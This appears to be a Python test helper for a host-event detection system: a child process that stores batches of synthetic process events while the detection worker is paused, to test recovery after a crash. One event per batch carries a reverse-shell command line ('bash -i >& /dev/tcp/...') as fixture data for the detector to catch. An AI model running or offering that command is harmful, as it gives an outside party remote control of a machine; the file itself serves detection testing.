"""Child process for test_detection_recovery: commits batches through StoreHooks while
detection is stuck (its worker process stopped), reports the worker's pid and each acked
batch, then waits to be killed with SIGKILL.

    python recovery_child.py DB BATCHES
"""

from __future__ import annotations

import asyncio
import os
import signal
import sys
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from backplane.schema import Action, Tier, new_event
from controller.detection import DetectionEngine
from controller.hooks import StoreHooks
from controller.live import LiveHub
from controller.store import SQLiteStore

HOST = "host-crash"


def batch(n: int) -> list[dict[str, Any]]:
    out = []
    for i in range(20):
        ev = new_event(Action.EXEC, host={"id": HOST}, tier=Tier.TRACEPOINT)
        shell = i == 0  # one reverse shell per batch
        cmd = f"bash -i >& /dev/tcp/10.9.9.9/{4000 + n} 0>&1" if shell else f"ls -l /tmp/{n}/{i}"
        ev["process"] = {
            "pid": 1000 + n * 100 + i,
            "entity_id": f"p{n}-{i}",
            "executable": "/usr/bin/bash" if shell else "/usr/bin/ls",
            "command_line": cmd,
        }
        ev["mark"] = f"{n}-{i}"
        out.append(ev)
    return out


async def main(db: str, batches: int) -> None:
    store = SQLiteStore(db)
    engine = DetectionEngine()
    engine.load([])
    hooks = StoreHooks(store, engine, LiveHub(), detection_queue=batches + 1)
    await hooks.start()
    # Detection stuck: the worker process is stopped, so batches are stored, never evaluated.
    assert hooks.worker_pid is not None
    os.kill(hooks.worker_pid, signal.SIGSTOP)
    print(f"worker {hooks.worker_pid}", flush=True)
    for n in range(1, batches + 1):
        assert await hooks.commit_batch(HOST, n, batch(n), 0)
        print(f"acked {n}", flush=True)  # the backplane would send the ACK now
    await asyncio.sleep(3600)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
